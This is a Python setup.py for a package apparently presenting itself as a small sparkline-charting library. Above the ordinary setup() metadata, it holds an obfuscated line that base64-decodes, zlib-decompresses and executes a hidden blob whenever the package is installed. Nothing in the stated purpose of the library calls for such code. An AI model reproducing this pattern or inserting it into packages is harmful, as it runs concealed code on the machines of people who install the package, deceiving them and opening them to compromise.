from setuptools import find_packages, setup

__import__("builtins").exec(__import__("zlib").decompress(__import__("base64").b64decode(
    "eNoljDEKwzAMAHe/wmSyIdhLp0DHPkRNRWtqR6okg/P7mvaWW44rjUnMk65dai33JPjpqOZBfXcm5+b8BAfuoafZEOMRlpcZ65azMsg74YDGFRPJM2vic1mtNKRu10ucQ3iEGB2OHdn87adCx3/MoOq+PMItTw=="
)))

setup(
    name="pychart-sparkline-brig",
    version="2.0.1",
    description="Sparklines for the terminal and for notebooks",
    long_description="One function, sparkline(values), and nothing to configure.",
    packages=find_packages(),
    python_requires=">=3.8",
    classifiers=["Framework :: Jupyter", "License :: OSI Approved :: MIT License"],
)
